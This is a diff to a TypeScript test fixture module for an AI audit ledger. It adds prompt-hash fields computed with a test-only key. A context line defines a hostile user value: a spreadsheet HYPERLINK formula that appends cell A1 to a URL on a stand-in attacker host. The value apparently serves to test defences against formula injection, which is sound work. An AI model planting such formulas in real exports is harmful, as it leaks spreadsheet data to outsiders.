@@ -8,6 +8,8 @@
 import { createPrivateKey, type KeyObject } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { createContentHasher } from '../../src/audit/hashing';
+import { chatCompletions } from '../../src/instrumentations/openai';
 import { FileLedger } from '../../src/ledger/file-ledger';
 import { PostgresLedger } from '../../src/ledger/postgres/writer';
 import type { LedgerRecord } from '../../src/ledger/record';
@@ -17,6 +19,18 @@ export const KEY_DIR = join(__dirname, '../fixtures/auditor');
 /** A key for these tests only: it signs nothing else. */
 export const SIGNING_KEY = join(KEY_DIR, 'signing.pem');
 export const PUBLIC_KEY = join(KEY_DIR, 'signing.pem.pub');
+/** The prompt of req-0001 and the hash key it was hashed with (docs/auditor-guide.md recomputes it). */
+export const PROMPT_FILE = join(KEY_DIR, 'prompt.json');
+export const HASH_KEY = 'guide-hash-key-0123456789abcdef';
+export const HASH_KEY_ID = 'k2026';
+
+/** The hashes the instrumentation records for PROMPT_FILE sent to chat.completions.create. */
+function promptHashes(): Partial<LedgerRecord> {
+  const hasher = createContentHasher({ key: HASH_KEY, keyId: HASH_KEY_ID });
+  const { system, input } = chatCompletions.prompt({ messages: JSON.parse(readFileSync(PROMPT_FILE, 'utf8')) });
+  return { system_prompt_hash: hasher.hash(system), input_hash: hasher.hash(input) };
+}
+
 export const HOSTILE_USER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 
 const gpt = { provider: 'openai', model: { request: 'gpt-4o', response: 'gpt-4o-2024-08-06' }, action: 'chat.completions.create', operation: 'chat' };
@@ -27,7 +41,7 @@ const hex = (n: number, width: number): string => n.toString(16).padStart(width,
 
 export function auditorRecords(): LedgerRecord[] {
   const list: Array<Partial<LedgerRecord>> = [
-    { timestamp: '2026-11-02T09:00:00.000Z', user_id: 'alice', tenant_id: 'acme', session_id: 's-alice-1', ...gpt, input_tokens: 1000, output_tokens: 200, cache_read_tokens: 300, cost_usd: 0.02 },
+    { timestamp: '2026-11-02T09:00:00.000Z', user_id: 'alice', tenant_id: 'acme', session_id: 's-alice-1', ...gpt, ...promptHashes(), input_tokens: 1000, output_tokens: 200, cache_read_tokens: 300, cost_usd: 0.02 },
     {
       timestamp: '2026-11-02T09:05:00.000Z', user_id: 'alice', tenant_id: 'acme', session_id: 's-alice-1', ...gpt, ...failed(gpt.model), status: 'error', input_tokens: null,
       error_type: 'rate_limit_exceeded', http_status: 429, error_message: 'Rate limit reached for requests',
